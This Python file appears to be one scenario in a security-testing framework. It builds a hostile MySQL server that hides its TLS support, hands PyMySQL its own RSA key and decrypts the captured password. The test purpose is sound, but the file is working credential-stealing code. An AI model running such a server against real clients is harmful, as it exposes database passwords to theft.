"""B3: whoever has no TLS may still hand out a key, and the password comes under that one."""

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from backwatch.attack.authority import Authority
from backwatch.attack.demo.services.mysql import SALT, Packets
from backwatch.attack.protocols.mysql import HonestMySQL
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.mysql import ONE, ORDERS, PLAIN, PyMySQL


class OwnKey(HonestMySQL):
    """Has no TLS, but a key of its own to send the password under, once it has turned."""

    def __init__(self, authority: Authority, port: int = 0) -> None:
        super().__init__(authority, port)
        self._key = rsa.generate_private_key(public_exponent=65_537, key_size=2_048)

    def offers_tls(self) -> bool:
        """Until then."""
        return not self.hostile

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Asks for the password, under its own key."""
        if not self.hostile:
            super().log_in(wire, proof)
            return
        wire.send(b"\x01\x04")  # the proof will not do
        wire.receive()  # asks for the key
        public = self._key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        wire.send(b"\x01" + public)
        oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303  what the plugin does
        masked = self._key.decrypt(wire.receive(), oaep)
        self.taken(bytes(a ^ SALT[i % len(SALT)] for i, a in enumerate(masked)).rstrip(b"\0"))


class KeyFromServer(PyMySQL):
    """On PyMySQL, which asks the server itself for the key to encrypt the password with."""

    code = "B3"
    attack = "hides that it can do TLS, and has the password sent under its own key"
    reference = "https://dev.mysql.com/doc/refman/8.4/en/caching-sha2-pluggable-authentication.html"
    rule = "tls-stripped"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """It takes the password."""
        service = OwnKey(authority)
        service.taken = service.kept.append
        return service

    def work(self) -> None:
        """Reads orders over verified TLS, on a new connection each time."""
        self.renew()
        with self.connected().cursor() as cursor:
            cursor.execute(ORDERS, ONE)
            cursor.fetchall()

    def meet(self) -> object:
        """Does the same where somebody forgot the authority."""
        self.renew()
        with self.connected(**PLAIN).cursor() as cursor:
            cursor.execute(ORDERS, ONE)
            return len(cursor.fetchall())

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The password has arrived."""
        del got
        return SECRET.encode() in service.kept
